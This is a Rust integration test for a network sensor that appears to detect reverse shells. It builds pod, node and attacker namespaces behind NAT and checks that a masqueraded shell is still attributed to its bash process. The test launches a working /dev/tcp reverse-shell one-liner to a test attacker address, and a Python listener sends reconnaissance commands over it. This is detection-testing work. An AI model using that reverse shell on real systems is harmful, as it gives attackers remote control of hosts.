//! A shell in a "pod" namespace whose traffic a "node" namespace masquerades: on the wire
//! the session comes from the node's address, while the socket inside the pod has the
//! pod's. The sensor on the node, with its local agent reading the node's conntrack
//! table, still names the shell process. Needs root, network namespaces and nftables.

mod agent_support;
mod common;

use agent_support::privileged;
use common::*;
use std::process::{Command, Stdio};
use std::time::Duration;

fn sh(script: &str) {
    let out = Command::new("bash").args(["-ec", script]).output().expect("bash");
    assert!(out.status.success(), "`{script}` failed: {}", String::from_utf8_lossy(&out.stderr));
}

struct Namespaces(String);

impl Drop for Namespaces {
    fn drop(&mut self) {
        let p = &self.0;
        let _ = Command::new("bash")
            .args(["-c", &format!("for n in {p}-pod {p}-node {p}-att; do ip netns del $n 2>/dev/null; done")])
            .status();
    }
}

#[test]
fn a_masqueraded_pod_shell_is_attributed_through_conntrack() {
    if !privileged() {
        return;
    }
    assert!(
        Command::new("nft").arg("--version").output().is_ok(),
        "nft not found: install nftables (CI does)"
    );
    let p = format!("ssnat{}", std::process::id() % 100_000);
    let ns = Namespaces(p.clone());
    // pod 198.18.100.5 -- node (198.18.100.1 | 198.19.0.10) -- attacker 198.19.0.66
    sh(&format!(
        "ip netns add {p}-pod; ip netns add {p}-node; ip netns add {p}-att
         ip link add {p}a netns {p}-pod type veth peer name {p}b netns {p}-node
         ip link add {p}c netns {p}-node type veth peer name {p}d netns {p}-att
         ip -n {p}-pod addr add 198.18.100.5/24 dev {p}a; ip -n {p}-pod link set {p}a up; ip -n {p}-pod link set lo up
         ip -n {p}-pod route add default via 198.18.100.1
         ip -n {p}-node addr add 198.18.100.1/24 dev {p}b; ip -n {p}-node link set {p}b up
         ip -n {p}-node addr add 198.19.0.10/24 dev {p}c; ip -n {p}-node link set {p}c up; ip -n {p}-node link set lo up
         ip -n {p}-att addr add 198.19.0.66/24 dev {p}d; ip -n {p}-att link set {p}d up; ip -n {p}-att link set lo up
         ip netns exec {p}-node sysctl -qw net.ipv4.ip_forward=1
         ip netns exec {p}-node nft add table ip nat
         ip netns exec {p}-node nft add chain ip nat post '{{ type nat hook postrouting priority 100 ; }}'
         ip netns exec {p}-node nft add rule ip nat post ip saddr 198.18.100.0/24 oif {p}c masquerade"
    ));
    let dir = std::env::temp_dir().join(format!("ss-nat-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let alerts = dir.join("alerts.jsonl");
    let sensor = Command::new("ip")
        .args(["netns", "exec", &format!("{p}-node"), bin(), "sensor", "--interface", &format!("{p}c")])
        .args(["--local-agent", "--duration", "22", "--format", "json", "-o", alerts.to_str().unwrap()])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    // The attacker's listener: a small python typist in the attacker namespace.
    let typist = Command::new("ip")
        .args(["netns", "exec", &format!("{p}-att"), "python3", "-c", TYPIST])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(800));
    let mut shell = Command::new("ip")
        .args(["netns", "exec", &format!("{p}-pod"), "bash", "-c"])
        .arg("exec bash --norc -i >& /dev/tcp/198.19.0.66/4444 0>&1")
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let mut typist = typist;
    let _ = typist.wait();
    let _ = shell.wait();
    let out = sensor.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "sensor failed: {err}");
    drop(ns);

    let records = json_lines(&std::fs::read(&alerts).unwrap());
    let alerts: Vec<_> = records.iter().filter(|r| r["event"]["kind"] == "alert").collect();
    assert!(!alerts.is_empty(), "no alert: {err}");
    // On the wire the shell side is the node's address …
    assert!(alerts.iter().all(|a| a["source"]["ip"] == "198.19.0.10"), "{alerts:?}");
    // … and the alert still names the process inside the pod.
    let a = alerts
        .iter()
        .find(|a| a["process"]["name"] == "bash")
        .unwrap_or_else(|| panic!("not attributed: {alerts:?}"));
    assert_eq!(a["shellsight"]["tier"], "high");
}

const TYPIST: &str = r#"
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.19.0.66", 4444)); s.listen(1); s.settimeout(15)
c, _ = s.accept(); c.settimeout(0.3)
for cmd, think in [("id", 1.4), ("whoami", 2.2), ("uname -a", 1.1), ("hostname", 2.9), ("pwd", 1.6), ("ls /", 2.4)]:
    time.sleep(think); c.sendall((cmd + "\n").encode())
    try: c.recv(4096)
    except socket.timeout: pass
time.sleep(0.8); c.sendall(b"exit\n"); time.sleep(0.5)
"#;
